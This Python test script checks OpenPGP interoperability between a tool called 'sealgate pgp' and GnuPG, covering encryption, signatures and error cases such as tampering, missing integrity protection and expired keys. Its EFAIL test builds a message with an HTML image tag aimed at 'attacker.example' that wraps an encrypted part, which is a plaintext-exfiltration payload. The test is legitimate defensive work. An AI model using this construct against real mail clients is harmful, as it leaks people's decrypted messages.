#!/usr/bin/env python3
"""OpenPGP interop, both directions: `sealgate pgp` against GnuPG's `gpg`, for
each key type (Ed25519/Cv25519, RSA 3072), PGP/MIME and bare OpenPGP, plus the
negative cases (no MDC, tampered, signer not the sender, expired signer,
encrypted to someone else, truncated, not OpenPGP, wrong passphrase, EFAIL).
Every run makes its own fixtures and GNUPGHOME (make-pgp-fixtures.sh) and
writes the matrix to OUT_DIR/interop-matrix-pgp.md, whose rows must be those
of the generated block in DOC (docs/interop.md; tools/update-interop-doc.py).
Usage: test-pgp-interop.py SEALGATE MAKE_PGP_FIXTURES OUT_DIR DOC. Prints TAP."""
import email
import email.policy
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "common"))
from matrix import Matrix  # noqa: E402
from tap import done, ok  # noqa: E402

SEALGATE, MAKE_FIXTURES, OUT_DIR, DOC = sys.argv[1], sys.argv[2], pathlib.Path(sys.argv[3]), sys.argv[4]
TMP = pathlib.Path(tempfile.mkdtemp(prefix="sealgate-pgp-interop-"))
FX = TMP / "fx"
HOME = FX / "home"
MATRIX = Matrix("test-pgp-interop.py", ["direction", "operation", "format", "algorithm", "key", "result"])
started = time.monotonic()

CONTENT = ("Content-Type: text/plain; charset=utf-8\r\n"
           "Content-Transfer-Encoding: 8bit\r\n"
           "\r\n"
           "Hello Bob,\r\n"
           "the quarterly figures are attached.\r\n"
           "こんにちは、ボブさん。\r\n"
           "From here on, a line that starts with From.\r\n"
           "-- \r\n"
           "Alice\r\n").encode("utf-8")
CONTENT_FILE = TMP / "content.txt"
CONTENT_FILE.write_bytes(CONTENT)

KEYS = {"ed25519/cv25519": "alice@corp.example", "rsa3072": "bob@partner.example"}


def run(cmd, stdin=None, timeout=120):
    e = dict(os.environ)
    e["GNUPGHOME"] = str(HOME)
    e.pop("SEALGATE_POLICY", None)
    try:
        p = subprocess.run([str(c) for c in cmd], input=stdin, capture_output=True, env=e, timeout=timeout)
    except subprocess.TimeoutExpired:
        return 124, b"", b"timed out"
    return p.returncode, p.stdout, p.stderr


def sg(*args, stdin=None):
    return run([SEALGATE, "pgp", *args, "--homedir", HOME], stdin=stdin)


def gpg(*args, stdin=None):
    return run(["gpg", "--homedir", HOME, "--batch", "--no-tty", "--pinentry-mode", "loopback", "--status-fd", "2",
                *args], stdin=stdin)


def sgerr(stderr):
    """The stable code of a `sealgate: pgp CMD: CODE: message` line."""
    for line in stderr.decode("utf-8", "replace").splitlines():
        parts = line.split(": ")
        if line.startswith("sealgate: pgp") and len(parts) > 2:
            return parts[2]
    return ""


def cell(direction, op, fmt, alg, key, passed, diag=None):
    MATRIX.cell((direction, op, fmt, alg, key), passed, f"{direction}: {op} {fmt} {alg} {key}", diag)


CIPHER_IDS = {"7": "aes128", "8": "aes192", "9": "aes256", "10": "twofish", "3": "cast5"}  # RFC 4880 9.2
DIGEST_IDS = {"2": "sha1", "8": "sha256", "9": "sha384", "10": "sha512", "11": "sha224"}  # RFC 4880 9.4


def status(err, keyword):
    """The fields of gpg's first `[GNUPG:] KEYWORD ...` status line, or []."""
    for line in err.decode("utf-8", "replace").splitlines():
        if line.startswith(f"[GNUPG:] {keyword} "):
            return line.split()[2:]
    return []


def gpg_cipher(err):
    """The cipher gpg reports it decrypted with (DECRYPTION_INFO mdc sym [aead])."""
    f = status(err, "DECRYPTION_INFO")
    return CIPHER_IDS.get(f[1], "algorithm " + f[1]) if len(f) > 1 else "?"


def gpg_digest(err):
    """The digest of the signature gpg checked (VALIDSIG ... pubkey-algo hash-algo ...)."""
    f = status(err, "VALIDSIG")
    return DIGEST_IDS.get(f[7], "algorithm " + f[7]) if len(f) > 7 else "?"


def crlf(b):
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def mime_parts(raw):
    """The two parts of a multipart/encrypted or /signed: (first raw, second payload)."""
    msg = email.message_from_bytes(raw, policy=email.policy.compat32)
    boundary = msg.get_boundary().encode()
    chunks = raw.split(b"--" + boundary)
    first = chunks[1][2:]  # after the CRLF that ends the boundary line
    first = first[:-2] if first.endswith(b"\r\n") else first
    parts = msg.get_payload()
    return first, parts[1].get_payload(decode=True)


def pgp_mime_wrap(armored):
    b = b"----gpg-wrapped"
    return crlf(b"From: Bob <bob@partner.example>\nTo: Alice <alice@corp.example>\nSubject: from gpg\n"
                b"MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
                b" boundary=\"" + b + b"\"\n\n--" + b + b"\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--"
                + b + b"\nContent-Type: application/octet-stream\n\n" + armored + b"\n--" + b + b"--\n")


# ---- fixtures
code, out, err = run(["sh", MAKE_FIXTURES, FX], timeout=180)
if not ok(code == 0, f"fixtures made by make-pgp-fixtures.sh in {time.monotonic() - started:.1f} s", err):
    sys.exit(done())
PASSFILE = FX / "PASSPHRASE"

# ---- sealgate -> gpg: encrypt, gpg decrypts
for label, addr in KEYS.items():
    for fmt, extra in [("PGP/MIME", []), ("armored", ["--bare"]), ("binary", ["--bare", "--binary"])]:
        f = TMP / "enc.out"
        code, _, err = sg("encrypt", "--recipient", addr, *extra, "-o", f, CONTENT_FILE)
        data = f.read_bytes() if code == 0 else b""
        if code == 0 and fmt == "PGP/MIME":
            data = mime_parts(data)[1]
        c2, out, err2 = gpg("--decrypt", stdin=data)
        cell("sealgate -> gpg", "decrypt", fmt, gpg_cipher(err2), label, code == 0 and c2 == 0 and out == CONTENT,
             (err + err2)[-1500:])
    # encrypted and signed: gpg checks the signature inside
    f = TMP / "encsig.out"
    signer = "bob@partner.example" if addr.startswith("alice") else "alice@corp.example"
    code, _, err = sg("encrypt", "--recipient", addr, "--local-user", signer, "--bare", "-o", f, CONTENT_FILE)
    c2, out, err2 = gpg("--decrypt", f)
    cell("sealgate -> gpg", "decrypt + verify", "armored", f"{gpg_cipher(err2)}, {gpg_digest(err2)}", label,
         code == 0 and c2 == 0 and out == CONTENT and b"GOODSIG" in err2 and b"VALIDSIG" in err2, (err + err2)[-1500:])

# ---- sealgate -> gpg: sign, gpg verifies
for label, addr in KEYS.items():
    f = TMP / "signed.eml"
    code, _, err = sg("sign", "--local-user", addr, "-o", f, CONTENT_FILE)
    ok_mime = False
    if code == 0:
        content, sig = mime_parts(f.read_bytes())
        (TMP / "c.txt").write_bytes(content)
        (TMP / "c.sig").write_bytes(sig)
        c2, _, err2 = gpg("--verify", TMP / "c.sig", TMP / "c.txt")
        ok_mime = c2 == 0 and b"GOODSIG" in err2 and content == CONTENT
        err += err2
    cell("sealgate -> gpg", "verify", "PGP/MIME", gpg_digest(err), label, ok_mime, err[-1500:])
    code, _, err = sg("sign", "--local-user", addr, "--bare", "-o", TMP / "d.sig", CONTENT_FILE)
    c2, _, err2 = gpg("--verify", TMP / "d.sig", CONTENT_FILE)
    cell("sealgate -> gpg", "verify", "detached", gpg_digest(err2), label,
         code == 0 and c2 == 0 and b"GOODSIG" in err2, (err + err2)[-1500:])

# ---- gpg -> sealgate: gpg encrypts, sealgate decrypts
for label, addr in KEYS.items():
    for cipher in ["AES256", "AES128"]:
        for fmt, args in [("armored", ["--armor"]), ("binary, compressed", []), ("binary, -z 0", ["-z", "0"])]:
            f = TMP / "g.pgp"
            code, _, err = gpg("--cipher-algo", cipher, *args, "-r", addr, "--encrypt", "-o", f, "--yes",
                               CONTENT_FILE)
            c2, out, err2 = sg("decrypt", f)
            cell("gpg -> sealgate", "decrypt", fmt, cipher.lower(), label, code == 0 and c2 == 0 and out == CONTENT,
                 (err + err2)[-1500:])
    f = TMP / "g.asc"
    gpg("--cipher-algo", "AES256", "--armor", "-r", addr, "--encrypt", "-o", f, "--yes", CONTENT_FILE)
    (TMP / "g.eml").write_bytes(pgp_mime_wrap(f.read_bytes()))
    code, out, err = sg("decrypt", TMP / "g.eml")
    cell("gpg -> sealgate", "decrypt", "PGP/MIME", "aes256", label, code == 0 and out == CONTENT, err[-1500:])
    signer = "bob@partner.example" if addr.startswith("alice") else "alice@corp.example"
    code, _, err = gpg("--cipher-algo", "AES256", "--digest-algo", "SHA256", "--armor", "-r", addr, "-u", signer,
                       "--sign", "--encrypt", "-o", f, "--yes", CONTENT_FILE)
    c2, out, err2 = sg("decrypt", "--from", signer, f)
    cell("gpg -> sealgate", "decrypt + verify", "armored", "aes256, sha256", label,
         code == 0 and c2 == 0 and out == CONTENT and b"result: valid" in err2, (err + err2)[-1500:])

# ---- gpg -> sealgate: gpg signs, sealgate verifies


def verify_json(*args):
    code, out, err = sg("verify", "--json", *args)
    try:
        return code, json.loads(out), err
    except ValueError:
        return code, {}, err


for label, addr in KEYS.items():
    for digest in ["SHA256", "SHA512"]:
        code, _, err = gpg("--digest-algo", digest, "-u", addr, "--armor", "--detach-sign", "-o", TMP / "g.sig",
                           "--yes", CONTENT_FILE)
        c2, doc, err2 = verify_json("--from", addr, "--signature", TMP / "g.sig", CONTENT_FILE)
        cell("gpg -> sealgate", "verify", "detached", digest.lower(), label,
             code == 0 and c2 == 0 and doc.get("valid") is True and doc["signers"][0]["digest"] == digest.lower(),
             (err + err2)[-1500:])
    for fmt, args in [("signed (--sign)", ["--armor", "--sign"]), ("clearsigned", ["--clearsign"])]:
        f = TMP / "g-signed.asc"
        code, _, err = gpg("--digest-algo", "SHA256", "-u", addr, *args, "-o", f, "--yes", CONTENT_FILE)
        c2, doc, err2 = verify_json("--from", addr, "-o", TMP / "g-content.txt", f)
        got = (TMP / "g-content.txt").read_bytes() if c2 == 0 else b""
        # a clearsigned text loses trailing spaces (RFC 4880 7.1): compare without them
        want = CONTENT if "--sign" in args else b"\r\n".join(x.rstrip(b" ") for x in CONTENT.split(b"\r\n"))
        cell("gpg -> sealgate", "verify", fmt, "sha256", label,
             code == 0 and c2 == 0 and doc.get("valid") is True and doc["signers"][0]["digest"] == "sha256"
             and crlf(got) == want, (err + err2 + got)[-1500:])
    # a PGP/MIME signed message built around gpg's detached signature
    gpg("--digest-algo", "SHA256", "-u", addr, "--armor", "--detach-sign", "-o", TMP / "m.sig", "--yes",
        CONTENT_FILE)
    b = b"----gpg-signed"
    raw = (b"From: <" + addr.encode() + b">\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; "
           b"micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"" + b + b"\"\r\n\r\n--" + b +
           b"\r\n" + CONTENT + b"\r\n--" + b + b"\r\nContent-Type: application/pgp-signature\r\n\r\n" +
           crlf((TMP / "m.sig").read_bytes()) + b"\r\n--" + b + b"--\r\n")
    (TMP / "m.eml").write_bytes(raw)
    c2, doc, err2 = verify_json(TMP / "m.eml")
    cell("gpg -> sealgate", "verify", "PGP/MIME", "sha256", label,
         c2 == 0 and doc.get("valid") is True and doc.get("from") == addr and doc["signers"][0]["digest"] == "sha256",
         err2[-1500:])

# ---- negative cases (sealgate receives)
# no MDC: gpg itself prints the plaintext before it fails; sealgate prints nothing
out_file = TMP / "nomdc.out"
code, out, err = sg("decrypt", FX / "nomdc.asc")
code2, _, err2 = sg("decrypt", "-o", out_file, FX / "nomdc.asc")
ok(code == 1 and sgerr(err) == "no_integrity" and out == b"" and code2 == 1 and not out_file.exists(),
   "no MDC (gpg --rfc2440 --cipher-algo CAST5): no_integrity, nothing on stdout, no output file", err)
gcode, gout, _ = gpg("--decrypt", FX / "nomdc.asc")
ok(gcode != 0, f"(gpg itself fails too, after writing {len(gout)} bytes of plaintext)")
wrapped = TMP / "nomdc.eml"
wrapped.write_bytes(pgp_mime_wrap((FX / "nomdc.asc").read_bytes()))
code, out, err = sg("decrypt", wrapped)
ok(code == 1 and sgerr(err) == "no_integrity" and out == b"", "no MDC inside PGP/MIME: no_integrity", err)

code, out, err = sg("decrypt", FX / "to-dave.asc")
ok(code == 1 and sgerr(err) == "no_private_key" and out == b"", "encrypted to someone else: no_private_key", err)

sg("encrypt", "--recipient", "alice@corp.example", "--bare", "--binary", "-o", TMP / "t.pgp", CONTENT_FILE)
full = (TMP / "t.pgp").read_bytes()
(TMP / "cut.pgp").write_bytes(full[:-20])
code, out, err = sg("decrypt", "-o", TMP / "cut.out", TMP / "cut.pgp")
ok(code == 1 and sgerr(err) == "truncated_input" and not (TMP / "cut.out").exists(),
   "truncated binary message: truncated_input, no output file", err)
sg("encrypt", "--recipient", "alice@corp.example", "-o", TMP / "t.eml", CONTENT_FILE)
mime = (TMP / "t.eml").read_bytes()
cut = mime[:mime.index(b"-----END PGP MESSAGE-----") - 200]
(TMP / "cut.eml").write_bytes(cut)
code, out, err = sg("decrypt", TMP / "cut.eml")
ok(code == 1 and sgerr(err) == "truncated_input" and out == b"", "truncated PGP/MIME message: truncated_input", err)

for what, data in [("plain text", b"Hello, this is not OpenPGP.\n"), ("an empty file", b""),
                   ("a MIME message", b"Content-Type: text/plain\r\n\r\nHello\r\n")]:
    (TMP / "x").write_bytes(data)
    code, out, err = sg("decrypt", TMP / "x")
    ok(code == 1 and sgerr(err) == "not_pgp", f"decrypt of {what}: not_pgp", err)
code, out, err = sg("decrypt", TMP / "signed.eml")
ok(code == 1 and sgerr(err) == "not_pgp" and b"verify it instead" in err, "decrypt of a signed message: not_pgp",
   err)
code, out, err = sg("decrypt", FX / "old-signed.asc")
ok(code == 1 and sgerr(err) == "not_pgp" and b"verify it instead" in err and out == b"",
   "decrypt of a bare signed message (gpg --sign): not_pgp, nothing on stdout", err)
code, out, err = sg("verify", TMP / "t.pgp")
ok(code == 1 and sgerr(err) == "not_pgp" and b"decrypt it first" in err, "verify of a bare encrypted message: not_pgp",
   err)
code, out, err = sg("verify", TMP / "t.eml")
ok(code == 1 and sgerr(err) == "not_pgp" and b"decrypt it first" in err, "verify of an encrypted message: not_pgp",
   err)

sg("encrypt", "--recipient", "carol@corp.example", "--bare", "-o", TMP / "carol.asc", CONTENT_FILE)
(TMP / "wrong").write_text("not-the-passphrase\n")
code, out, err = sg("decrypt", "--passphrase-file", TMP / "wrong", TMP / "carol.asc")
ok(code == 1 and sgerr(err) == "wrong_passphrase" and out == b"", "wrong passphrase: wrong_passphrase", err)
code, out, err = sg("decrypt", TMP / "carol.asc")
ok(code == 1 and sgerr(err) == "wrong_passphrase", "no passphrase for a protected key: wrong_passphrase", err)
code, out, err = sg("decrypt", "--passphrase-file", PASSFILE, TMP / "carol.asc")
ok(code == 0 and out == CONTENT, "right passphrase: decrypted", err)

# tampered signed message
signed = (TMP / "signed.eml").read_bytes()
(TMP / "tampered.eml").write_bytes(signed.replace(b"quarterly", b"QUARTERLY", 1))
code, doc, err = verify_json("--from", "bob@partner.example", TMP / "tampered.eml")
ok(code == 5 and doc.get("valid") is False and doc["signers"][0]["signature_valid"] is False,
   "tampered multipart/signed: signature invalid, exit 5", err)
# signer is not the From address
code, doc, err = verify_json("--from", "mallory@other.example", TMP / "signed.eml")
ok(code == 5 and doc["signers"][0]["signature_valid"] is True and doc["signers"][0]["email_matches"] is False,
   "signature by someone other than From: email_matches false, exit 5", err)
# expired signer (the key expired in 2020; it signed while valid)
code, doc, err = verify_json("--from", "old@corp.example", FX / "old-signed.asc")
ok(code == 5 and doc["signers"][0]["signature_valid"] is True and doc["signers"][0]["key_time_valid"] is False,
   "signer key expired: key_time_valid false, exit 5", err)
# --at: judged when the key was valid (made 2020-01-01, expired a day later), before and after
for at, valid in (("2020-01-01T12:00:00Z", True), ("2019-12-31", False), ("2020-01-03T00:00:00Z", False)):
    code, doc, err = verify_json("--from", "old@corp.example", "--at", at, FX / "old-signed.asc")
    ok(doc.get("signers") and doc["signers"][0]["key_time_valid"] is valid and doc["signers"][0]["signature_valid"]
       and doc.get("at"), f"--at {at}: the expired key is {'valid' if valid else 'not valid'} then", err)
code, out, err = sg("verify", "--at", "yesterday", FX / "old-signed.asc")
ok(code == 2 and b"--at needs a time" in err, "--at with no time: usage error", err)
code, out, err = sg("encrypt", "--recipient", "old@corp.example", CONTENT_FILE)
ok(code == 1 and sgerr(err) == "key_expired", "encrypt to an expired key: key_expired", err)
code, out, err = sg("encrypt", "--recipient", "revoked@corp.example", CONTENT_FILE)
ok(code == 1 and sgerr(err) == "key_revoked", "encrypt to a revoked key: key_revoked", err)
code, out, err = sg("encrypt", "--recipient", "nobody@corp.example", CONTENT_FILE)
ok(code == 1 and sgerr(err) == "no_public_key", "encrypt to an address without a key: no_public_key", err)

# EFAIL: clear parts around the encrypted one are never part of the output
efail = crlf(b"From: Bob <bob@partner.example>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"o\"\n\n"
             b"--o\nContent-Type: text/html\n\n<img src=\"http://attacker.example/\n--o\n") + mime + \
    crlf(b"\n--o\nContent-Type: text/html\n\n\">\n--o--\n")
(TMP / "efail.eml").write_bytes(efail)
code, out, err = sg("decrypt", TMP / "efail.eml")
ok(code == 0 and out == CONTENT and b"unencrypted parts" in err,
   "encrypted part between clear HTML parts: only the encrypted content, a note on stderr", err)

# ---- the matrix, and the doc's copy of it
code, out, err = run(["gpg", "--version"])
gpgv = out.decode().splitlines()[0] if code == 0 else "gpg ?"
MATRIX.write(OUT_DIR,
             "Direction \"sealgate -> gpg\": sealgate encrypts or signs, gpg decrypts or verifies; "
             "\"gpg -> sealgate\": the other way. A decrypt row passes when the plaintext is the original; a verify row when gpg reports "
             "GOODSIG (or sealgate: every check of its report passes). In \"sealgate -> gpg\" rows the algorithm "
             "is the one gpg reports (DECRYPTION_INFO, VALIDSIG); in \"gpg -> sealgate\" rows the one gpg was told "
             "to use. One GNUPGHOME holds every key.",
             f"peer: {gpgv}")
MATRIX.check_doc(DOC)

run(["gpgconf", "--homedir", HOME, "--kill", "gpg-agent"])
print(f"# {time.monotonic() - started:.1f} s")
shutil.rmtree(TMP, ignore_errors=True)
sys.exit(done())
